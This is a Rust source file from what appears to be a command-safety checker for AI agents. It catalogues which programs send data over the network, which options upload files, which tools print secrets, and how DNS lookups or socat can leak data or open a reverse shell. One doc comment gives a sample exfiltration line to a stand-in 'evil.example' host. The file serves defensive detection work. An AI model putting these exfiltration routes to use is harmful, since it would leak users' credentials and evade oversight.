//! What the exfiltration pack knows about programs, as data: which ones send data to the
//! network and how, which print the content of the files and data they are given (so a
//! secret flows through them), which serve directories, and which local addresses keep a
//! server private.

use crate::knowledge::name_shapes::{NameShapes, name_shapes_of};

/// How a program sends data to the network (the programs are the program table's names).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Sender {
    /// curl: `-d @FILE`, `--data-binary @FILE`, `-F name=@FILE`, `-T FILE`, `--json @FILE`,
    /// `@-` for stdin; its words (URL, headers, data) are sent too.
    Curl,
    /// wget, wget2: `--post-file FILE`, `--body-file FILE`; its words are sent too.
    Wget,
    /// HTTPie and xh: `@FILE`, `field@FILE`, `field=@FILE`, `field:=@FILE`; a piped stdin
    /// is the body unless `--ignore-stdin`; its words are sent too.
    Httpie,
    /// lwp-request (`POST`): the body is its stdin; its words are sent too.
    LwpRequest,
    /// scp and rsync: the local sources, when the destination is remote.
    Copy,
    /// ssh: its stdin goes to the remote command, and the remote command's words are sent.
    Ssh,
    /// Raw sockets (nc, ncat, netcat, telnet): their stdin.
    Socket,
    /// socat: a file address (`FILE:`, `OPEN:`, a bare path) or stdin (`-`, `STDIN`) beside a
    /// network address.
    Socat,
    /// `aws s3 cp|sync|mv SRC s3://…` and `aws s3api put-object --body FILE`: a bucket may be
    /// anyone's, and `--acl public-read` publishes to everyone.
    AwsS3,
    /// gh: `gist create FILE…` (`-` or no file: stdin; a secret gist is unlisted, not
    /// private), the body and title of an issue, pull request or comment ([`GH_SENDS`],
    /// `--body-file FILE`), a release's notes and assets, `gh api`'s fields (`-F k=@FILE`)
    /// and `--input FILE`: any repository may be an attacker's.
    Gh,
    /// `openssl s_client -connect HOST:PORT`: its stdin goes to the server.
    TlsClient,
    /// Copies to cloud storage: `gsutil cp|mv|rsync SRC gs://…`, `gcloud storage cp SRC
    /// gs://…`, `rclone copy|sync|move SRC REMOTE:…` (`rclone rcat REMOTE:…`: stdin).
    StorageCopy,
    /// Mail senders: the message on stdin, the words (subject, recipients) and the files
    /// attached ([`MAIL_ATTACH_OPTIONS`]).
    Mail,
    /// Container registry logins (`docker login SERVER`, `helm registry login`, `crane auth
    /// login`): the password (`-p`, or stdin with `--password-stdin`) goes to the registry.
    RegistryLogin,
    /// DNS lookups (dig, nslookup, host, drill, ping and friends): the names they resolve
    /// reach the name's authoritative servers, whoever runs them, so data put into a name
    /// (`dig $(base64 < key).evil.example`) leaves the machine.
    Resolver,
}

/// The senders, by program table name.
pub(crate) const SENDERS: &[(&str, Sender)] = &[
    ("curl", Sender::Curl),
    ("wget", Sender::Wget),
    ("wget2", Sender::Wget),
    ("http", Sender::Httpie),
    ("https", Sender::Httpie),
    ("xh", Sender::Httpie),
    ("xhs", Sender::Httpie),
    ("POST", Sender::LwpRequest),
    ("lwp-request", Sender::LwpRequest),
    ("scp", Sender::Copy),
    ("rsync", Sender::Copy),
    ("ssh", Sender::Ssh),
    ("nc", Sender::Socket),
    ("ncat", Sender::Socket),
    ("netcat", Sender::Socket),
    ("telnet", Sender::Socket),
    ("socat", Sender::Socat),
    ("aws", Sender::AwsS3),
    ("gh", Sender::Gh),
    ("openssl", Sender::TlsClient),
    ("gsutil", Sender::StorageCopy),
    ("gcloud", Sender::StorageCopy),
    ("rclone", Sender::StorageCopy),
    ("mail", Sender::Mail),
    ("mailx", Sender::Mail),
    ("s-nail", Sender::Mail),
    ("sendmail", Sender::Mail),
    ("mutt", Sender::Mail),
    ("msmtp", Sender::Mail),
    ("docker", Sender::RegistryLogin),
    ("podman", Sender::RegistryLogin),
    ("nerdctl", Sender::RegistryLogin),
    ("buildah", Sender::RegistryLogin),
    ("skopeo", Sender::RegistryLogin),
    ("oras", Sender::RegistryLogin),
    ("helm", Sender::RegistryLogin),
    ("crane", Sender::RegistryLogin),
    ("dig", Sender::Resolver),
    ("nslookup", Sender::Resolver),
    ("host", Sender::Resolver),
    ("drill", Sender::Resolver),
    ("delv", Sender::Resolver),
    ("kdig", Sender::Resolver),
    ("ping", Sender::Resolver),
    ("ping6", Sender::Resolver),
    ("traceroute", Sender::Resolver),
    ("traceroute6", Sender::Resolver),
    ("tracepath", Sender::Resolver),
    ("tracepath6", Sender::Resolver),
    ("mtr", Sender::Resolver),
    ("arping", Sender::Resolver),
    ("whois", Sender::Resolver),
    ("getent", Sender::Resolver),
];

/// The shapes of the senders' names: most programs are refused without a scan.
const SENDER_SHAPES: NameShapes = name_shapes_of!(SENDERS, |row| row.0);

/// The sender row of a program (by its program table name).
pub(crate) fn sender(table_name: &str) -> Option<Sender> {
    if !SENDER_SHAPES.may_hold(table_name) {
        return None;
    }
    SENDERS
        .iter()
        .find(|(n, _)| *n == table_name)
        .map(|(_, s)| *s)
}

/// What a git subcommand does to a file on its way to a remote.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum GitStep {
    /// Puts the named files into the index (`git add .env`).
    Stage,
    /// Records the index, and the tracked files it names, in a commit.
    Commit,
    /// Sends the commits to a remote: everything committed goes with them.
    Publish,
}

/// The git subcommands that carry a file towards a remote, in the order they do.
pub(crate) const GIT_PUBLISHING: &[(&str, GitStep)] = &[
    ("add", GitStep::Stage),
    ("stage", GitStep::Stage),
    ("commit", GitStep::Commit),
    ("push", GitStep::Publish),
];

/// curl options whose `@FILE` value is a file whose content is sent (`@-`: stdin).
pub(crate) const CURL_DATA_OPTIONS: &[&str] = &[
    "-d",
    "--data",
    "--data-ascii",
    "--data-binary",
    "--data-urlencode",
    "--json",
    "--variable",
];

/// curl options whose `name=@FILE` / `name=<FILE` value uploads a file.
pub(crate) const CURL_FORM_OPTIONS: &[&str] = &["-F", "--form"];

/// curl options whose value is a file uploaded as it is (`-` and `.`: stdin).
pub(crate) const CURL_UPLOAD_OPTIONS: &[&str] = &["-T", "--upload-file"];

/// wget options whose value is a file sent as the request body.
pub(crate) const WGET_FILE_OPTIONS: &[&str] = &["--post-file", "--body-file"];

/// HTTPie request items that take their value from a file, longest first: `:=@` (JSON),
/// `=@` (text), `@` (file upload). A body file is an item that starts with `@`.
pub(crate) const HTTPIE_FILE_SEPARATORS: &[&str] = &[":=@", "=@", "@"];

/// HTTPie request item separators that do not read a file, longest first.
pub(crate) const HTTPIE_OTHER_SEPARATORS: &[&str] = &[":=", "==", "=", ":"];

/// gh's commands that send their words (a body, a title, notes) and the files named by
/// their options to a repository, by command group.
pub(crate) const GH_SENDS: &[(&str, &[&str])] = &[
    ("issue", &["create", "new", "comment", "edit"]),
    ("pr", &["create", "new", "comment", "edit", "review"]),
    ("release", &["create", "new", "edit", "upload"]),
];

/// gh options whose value is a file sent (`--body-file`, `--notes-file`, `gh api --input`;
/// `-` is stdin).
pub(crate) const GH_FILE_OPTIONS: &[&str] = &["-F", "--body-file", "--notes-file", "--input"];

/// `gh api` options whose `key=@FILE` value sends a file.
pub(crate) const GH_API_FIELD_OPTIONS: &[&str] = &["-F", "--field"];

/// `gsutil` and `gcloud storage` commands that copy their sources to the last operand.
pub(crate) const GSUTIL_SENDS: &[&str] = &["cp", "mv", "rsync"];

/// Schemes of cloud storage that `gsutil` and `gcloud storage` copy to.
pub(crate) const BUCKET_SCHEMES: &[&str] = &["gs://", "s3://"];

/// rclone commands that copy their sources to the last operand; `rcat` sends stdin.
pub(crate) const RCLONE_SENDS: &[&str] = &["copy", "copyto", "sync", "move", "moveto", "bisync"];

/// Mail senders' options whose value is a file attached to the message (`mail -A`, `mutt -a`,
/// `s-nail -a`).
pub(crate) const MAIL_ATTACH_OPTIONS: &[&str] = &["-a", "-A", "--attach"];

/// Programs that print the names they are given (`echo .env`, `ls .env*`, `realpath .env`):
/// substituted into a file a sender sends (`curl -d @$(echo .env)`), they name that file.
pub(crate) const NAME_PRINTERS: &[&str] = &["echo", "printf", "ls", "realpath", "readlink"];

/// The steps (a command's `via`) whose script runs on another machine or in a container
/// (`ssh host 'cat > k'`, `docker exec c sh -c …`): the files it writes are not this
/// machine's, so no later call of the agent reads them here.
pub(crate) const ELSEWHERE_STEPS: &[&str] = &[
    "ssh",
    "container exec",
    "container run",
    "kubectl exec",
    "vagrant ssh -c",
    "fly ssh -C",
    "pssh",
    "salt cmd.run",
    "ansible -a",
    "aws ssm send-command",
    "az run-command",
    "gcloud ssh",
    "gcloud ssh --command",
];

/// File names that stand for stdin.
pub(crate) const STDIN_NAMES: &[&str] = &["-", "/dev/stdin", "/dev/fd/0", "/proc/self/fd/0"];

/// socat address types that read a file.
pub(crate) const SOCAT_FILE_TYPES: &[&str] = &["FILE", "OPEN", "GOPEN"];

/// socat address types that read stdin.
pub(crate) const SOCAT_STDIN_TYPES: &[&str] = &["-", "STDIN", "STDIO"];

/// socat address types that run a program (a shell on a socket is a reverse shell).
pub(crate) const SOCAT_EXEC_TYPES: &[&str] = &["EXEC", "SYSTEM"];

/// Programs whose output holds nothing of the data they read (names, sizes, digests,
/// modes, nothing at all): a secret given to them goes no further.
pub(crate) const OPAQUE_OUTPUT: &[&str] = &[
    "ls",
    "stat",
    "file",
    "wc",
    "du",
    "md5sum",
    "sha1sum",
    "sha224sum",
    "sha256sum",
    "sha384sum",
    "sha512sum",
    "shasum",
    "b2sum",
    "cksum",
    "sum",
    "test",
    "[",
    "realpath",
    "readlink",
    "dirname",
    "basename",
    "tree",
    "touch",
    "mkdir",
    "chmod",
    "chown",
    "chgrp",
    "rm",
    "unlink",
    "cp",
    "mv",
    "ln",
    "install",
    "ssh-keygen",
    "ssh-add",
    "ssh-copy-id",
    "cd",
    "true",
    "false",
    "sleep",
];

/// Programs that print nothing of what they read unless given one of these options: `cmp`
/// says whether files differ, `cmp -l` prints every differing byte (all of them against
/// `/dev/zero`).
pub(crate) const OPAQUE_UNLESS: &[(&str, &[&str])] = &[("cmp", &["-l", "--verbose"])];

/// Programs that print what they read, from the files they are given and from stdin: a
/// credential they read is shown wherever their output goes (the exfiltration pack's
/// `TG-EXFIL-CREDENTIAL-READ` when that is the agent's terminal). A searcher's quiet options
/// ([`SEARCH_QUIET`]) and a printer's [`PRINTER_WRITE_OPTIONS`] print nothing of it.
pub(crate) const FILE_PRINTERS: &[&str] = &[
    "cat", "tac", "nl", "head", "tail", "less", "more", "most", "pg", "bat", "batcat", "base64",
    "base32", "basenc", "xxd", "od", "hexdump", "hd", "strings", "grep", "egrep", "fgrep", "zgrep",
    "rg", "ag", "ack", "awk", "gawk", "mawk", "nawk", "sed", "cut", "sort", "uniq", "paste",
    "column", "fold", "fmt", "pr", "rev", "expand", "unexpand", "jq", "yq", "gojq", "melt",
    // The lines that differ, which against `/dev/null` are all of them (`diff -q`: whether).
    "diff", "cmp",
];

/// Interpreters that loop over the lines of their file operands and stdin with one of these
/// options (`perl -ne print FILE`, `ruby -pe '' FILE`): they print what they read, as `awk`
/// and `sed` do, unless they edit the files in place (`perl -pi -e …`).
pub(crate) const LINE_LOOP_PRINTERS: &[(&str, &[&str])] =
    &[("perl", &["-n", "-p"]), ("ruby", &["-n", "-p"])];

/// A program that prints (a form of) the file given to an input option.
#[derive(Debug, PartialEq, Eq)]
pub(crate) struct OptionPrinter {
    /// The program.
    pub(crate) program: &'static str,
    /// The options whose value is a file it reads, as the option reader spells them.
    pub(crate) input: &'static [&'static str],
    /// The options with which it prints nothing of the file, or writes it elsewhere.
    pub(crate) quiet: &'static [&'static str],
}

/// `openssl rsa -in KEY -text`, `openssl base64 -in FILE`, `openssl pkey -in KEY`: openssl
/// prints what it read (decoded, encoded, the key's numbers); `-out FILE` writes it, `-noout`
/// prints nothing of it, `-pubout` prints the public half (its row reads `-in` as `--in`).
pub(crate) const OPTION_PRINTERS: &[OptionPrinter] = &[OptionPrinter {
    program: "openssl",
    input: &["--in"],
    quiet: &["--out", "--noout", "--pubout"],
}];

/// Programs that print what they read on stdin only (their operands are files they write, or
/// character sets).
pub(crate) const STREAM_PRINTERS: &[&str] = &["tee", "tr"];

/// Programs that print their words: a substitution in them (`echo "$(cat f)"`) shows what it
/// ran.
pub(crate) const WORD_PRINTERS: &[&str] = &["echo", "printf"];

/// Options (as the option reader normalises them) with which a printer writes a file instead
/// of printing what it read: `sed -i`, `sort -o FILE`, `xxd -r`, `gawk -i inplace`, `yq -i`.
pub(crate) const PRINTER_WRITE_OPTIONS: &[(&str, &[&str])] = &[
    ("sed", &["in-place"]),
    ("sort", &["-o", "--output"]),
    ("xxd", &["-r", "-revert"]),
    ("awk", &["-i"]),
    ("gawk", &["-i"]),
    ("yq", &["-i", "--inplace"]),
];

/// Options that make a searcher (or `diff`) print only names, counts or nothing.
pub(crate) const SEARCH_QUIET: &[(&str, &[&str])] = &[
    ("diff", &["-q", "--brief"]),
    (
        "grep",
        &[
            "-l",
            "-L",
            "-c",
            "-q",
            "--files-with-matches",
            "--files-without-match",
            "--count",
            "--quiet",
            "--silent",
        ],
    ),
    (
        "rg",
        &[
            "-l",
            "-c",
            "-q",
            "--files-with-matches",
            "--files-without-match",
            "--count",
            "--quiet",
            "--files",
        ],
    ),
];

/// Programs whose operands are words they print or use, not files they read.
pub(crate) const WORDS_NOT_FILES: &[&str] = &[
    "echo", "printf", "print", "export", "declare", "typeset", "local", "readonly", "set", "unset",
    "alias", "expr", "seq", "yes", "kill", "which", "type", "command", "hash", "ssh", "git", "gh",
    "aws", "nc", "ncat", "netcat", "telnet", "socat",
];

/// Programs that read directory trees whole (archivers, recursive copies): a directory
/// above a credential directory (`~`, `~/.config`) is read with the secrets in it.
pub(crate) const TREE_READERS: &[&str] = &[
    "tar", "bsdtar", "gtar", "zip", "7z", "7za", "7zz", "cpio", "rsync", "scp", "rclone",
];

/// Content searchers that print the matching lines of every file below a directory they are
/// given (`grep -r token ~`, `rg password ~/.config`), with the flags (as normalised) that
/// make them recurse; an empty list: they always do.
pub(crate) const TREE_SEARCHERS: &[(&str, &[&str])] = &[
    ("grep", &["-r", "-R", "recursive", "dereference-recursive"]),
    ("egrep", &["-r", "-R", "recursive", "dereference-recursive"]),
    ("fgrep", &["-r", "-R", "recursive", "dereference-recursive"]),
    ("ugrep", &["-r", "-R", "recursive", "dereference-recursive"]),
    ("rg", &[]),
    ("ag", &[]),
    ("ack", &[]),
    ("pt", &[]),
];

/// Tree readers and copiers that read the files below a directory only when told to
/// recurse, with the flags (as normalised) that tell them: `cp ~ x` copies nothing, `rsync
/// -d` copies the directories themselves. The others read the tree unless told not to
/// ([`NO_RECURSION`]).
pub(crate) const RECURSE_ONLY_WITH: &[(&str, &[&str])] = &[
    ("cp", &["recursive", "archive"]),
    ("rsync", &["recursive", "archive"]),
    ("scp", &["recursive"]),
    ("zip", &["-r", "recursive"]),
];

/// Tree readers' flags with which they read only the paths they are given (`tar
/// --no-recursion`).
pub(crate) const NO_RECURSION: &[(&str, &[&str])] = &[
    ("tar", &["no-recursion"]),
    ("bsdtar", &["no-recursion"]),
    ("gtar", &["no-recursion"]),
];

/// The one-variable forms of the environment dumpers: `printenv HOME`, `env X=1 cmd` print
/// one variable or run a command; these print the whole environment only without operands,
/// and `export`, `declare` and `typeset` only with no names (`export -p`, `declare -x`).
pub(crate) const DUMPER_LIST_OPTIONS: &[&str] = &["-p", "-x", "-px", "-xp", "-0", "--null"];

/// Local servers started through an interpreter module: `python -m http.server`.
pub(crate) const PYTHON_SERVERS: &[&str] = &["http.server", "SimpleHTTPServer"];

/// Addresses that keep a server on this machine.
pub(crate) const LOOPBACK_BINDS: &[&str] = &["127.0.0.1", "localhost", "::1", "[::1]", "127.1"];

/// Secret stores whose secret is one service's token, by program and first subcommand, with
/// that service's hosts: sent there it stays with its service, as a credential variable does
/// (`curl -H "Authorization: Bearer $(gh auth token)" https://api.github.com/…`). What any
/// other store prints (`vault kv get`, `op read`, `aws secretsmanager get-secret-value`) may
/// be for anything: every destination is a flow.
pub(crate) const SERVICE_TOKENS: &[(&str, &str, &[&str])] = &[
    (
        "gh",
        "auth",
        &["github.com", "githubusercontent.com", "ghcr.io"],
    ),
    // Access tokens for Google's APIs and registries; identity tokens for the user's own
    // Cloud Run services and functions.
    (
        "gcloud",
        "auth",
        &[
            "googleapis.com",
            "gcr.io",
            "pkg.dev",
            "run.app",
            "cloudfunctions.net",
        ],
    ),
    ("aws", "ecr", &["amazonaws.com"]),
    // `az account get-access-token`: Azure Resource Manager, Key Vault, Graph, storage.
    (
        "az",
        "account",
        &[
            "azure.com",
            "azure.net",
            "windows.net",
            "microsoft.com",
            "microsoftonline.com",
        ],
    ),
];

/// gpg's options that print secret keys (`gpg --export-secret-keys -a`), as its matcher in the
/// exfiltration pack spells them: printed to the terminal, a secret store's read.
pub(crate) const GPG_SECRET_EXPORTS: &[&str] = &["--export-secret-keys", "--export-secret-subkeys"];

/// Programs that print secret keys when given one of these options (`gpg
/// --export-secret-keys`), and the options: what they print is a private key file's content.
pub(crate) const SECRET_KEY_EXPORTS: (&[&str], &[&str]) = (
    &["gpg", "gpg2"],
    &[
        "export-secret-keys",
        "export-secret-subkeys",
        "export-ssh-key",
    ],
);

#[cfg(test)]
mod tests {
    use super::*;
    use crate::knowledge::programs::lookup;

    #[test]
    fn every_program_named_has_a_row() {
        let names = SENDERS
            .iter()
            .map(|(n, _)| *n)
            .chain(SEARCH_QUIET.iter().map(|(n, _)| *n));
        for name in names {
            assert!(lookup(name).is_some(), "{name} has no row");
        }
        for (name, _) in SENDERS {
            assert_eq!(lookup(name).map(|p| p.name), Some(*name), "{name}");
        }
    }

    #[test]
    fn option_lists_are_spelled_as_the_reader_reads_them() {
        for list in [
            CURL_DATA_OPTIONS,
            CURL_FORM_OPTIONS,
            CURL_UPLOAD_OPTIONS,
            WGET_FILE_OPTIONS,
        ] {
            for o in list {
                assert!(
                    o.starts_with("--") || (o.len() == 2 && o.starts_with('-')),
                    "{o}"
                );
            }
        }
        for o in CURL_DATA_OPTIONS
            .iter()
            .chain(CURL_FORM_OPTIONS)
            .chain(CURL_UPLOAD_OPTIONS)
        {
            if let Some(long) = o.strip_prefix("--") {
                assert!(
                    crate::knowledge::specs::CURL.long_val.contains(&long),
                    "{o}"
                );
            } else {
                let c = o.chars().nth(1).unwrap_or(' ');
                assert!(crate::knowledge::specs::CURL.short_val.contains(c), "{o}");
            }
        }
        for o in WGET_FILE_OPTIONS {
            let long = o.trim_start_matches('-');
            assert!(
                crate::knowledge::specs::WGET.long_val.contains(&long),
                "{o}"
            );
            assert!(
                crate::knowledge::specs::WGET2.long_val.contains(&long),
                "{o}"
            );
        }
    }

    #[test]
    fn no_program_both_prints_nothing_and_sends() {
        for name in OPAQUE_OUTPUT {
            assert!(sender(name).is_none(), "{name}");
        }
        for (name, _) in OPAQUE_UNLESS {
            assert!(FILE_PRINTERS.contains(name), "{name} is no printer");
            assert!(!OPAQUE_OUTPUT.contains(name), "{name} is always opaque");
        }
    }

    #[test]
    fn printers_print_and_send_nothing_themselves() {
        let printers = FILE_PRINTERS
            .iter()
            .chain(STREAM_PRINTERS)
            .chain(WORD_PRINTERS);
        let mut seen = std::collections::HashSet::new();
        for name in printers {
            assert!(seen.insert(*name), "{name} is listed twice");
            assert!(!OPAQUE_OUTPUT.contains(name), "{name} is also opaque");
            assert!(sender(name).is_none(), "{name} is a sender");
            assert_eq!(name.to_ascii_lowercase(), *name, "{name}");
        }
        for (name, _) in PRINTER_WRITE_OPTIONS {
            assert!(FILE_PRINTERS.contains(name), "{name} is no printer");
        }
        let others = LINE_LOOP_PRINTERS
            .iter()
            .map(|(n, _)| *n)
            .chain(OPTION_PRINTERS.iter().map(|p| p.program));
        for name in others {
            // (openssl prints with `-in` and sends with `s_client`.)
            assert!(seen.insert(name), "{name} is listed twice");
            assert!(!OPAQUE_OUTPUT.contains(&name), "{name} is also opaque");
        }
        for o in GPG_SECRET_EXPORTS {
            let long = o.trim_start_matches('-');
            assert!(SECRET_KEY_EXPORTS.1.contains(&long), "{o}");
        }
    }
}
